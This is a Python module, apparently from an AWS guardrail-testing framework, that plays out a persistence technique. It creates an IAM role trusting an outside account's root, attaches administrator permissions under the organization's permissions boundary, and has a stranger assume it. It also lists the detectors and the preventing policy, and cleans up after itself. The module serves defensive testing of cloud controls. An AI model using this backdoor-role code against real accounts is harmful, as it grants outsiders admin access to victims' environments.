"""Create a role that trusts a stranger, with the organization's boundary as asked: the boundary is no obstacle to that.

What stops it is not the making of the role but its use: roles of the organization answer only its own principals.
"""

from bastide.attack.stage import ADMINISTRATOR, Stage, policy
from bastide.attack.technique import NotPlayable, Prevented, Scene, Technique

TECHNIQUE = Technique(
    title="A new role with the boundary is taken from outside",
    mitre=("T1098.003", "T1199"),
    tactic="persistence",
    detectors=("IAM Access Analyzer: external access to a role", "GuardDuty Persistence:IAMUser/AnomalousBehavior"),
    expected=Prevented("perimeter-identity-rcp"),
    source='IAM User Guide, "Permissions boundaries for IAM entities"',
)


def prepare(stage: Stage) -> Scene:
    """The organization's boundary."""
    found = stage.owner().client("iam").list_policies(Scope="Local", PathPrefix="/bastide/")["Policies"]
    boundary = next((one["Arn"] for one in found if one["PolicyName"] == "bastide-boundary"), "")
    if not boundary:
        raise NotPlayable("the victim's account has no boundary of the platform")
    return {"name": stage.name("integration"), "boundary": boundary}


def attack(stage: Stage, scene: Scene) -> None:
    """Create it as the guardrail asks, and take it from outside."""
    iam = stage.attacker().client("iam")
    trust = {"Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{stage.outsider}:root"}, "Action": "sts:AssumeRole"}
    role = iam.create_role(
        RoleName=scene["name"], AssumeRolePolicyDocument=policy(trust), PermissionsBoundary=scene["boundary"]
    )["Role"]["Arn"]
    iam.attach_role_policy(RoleName=scene["name"], PolicyArn=ADMINISTRATOR)
    inside = stage.entered(role, by=stage.stranger())
    scene["account"] = inside.client("sts").get_caller_identity()["Account"]


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The stranger is in the victim's account."""
    return scene.get("account") == stage.victim


def clean_up(stage: Stage, scene: Scene) -> None:
    """Delete the role, if it was made."""
    pages = stage.owner().client("iam").get_paginator("list_roles").paginate()
    for role in [one for page in pages for one in page["Roles"] if one["RoleName"] == scene["name"]]:
        stage.drop_role(role["Arn"])
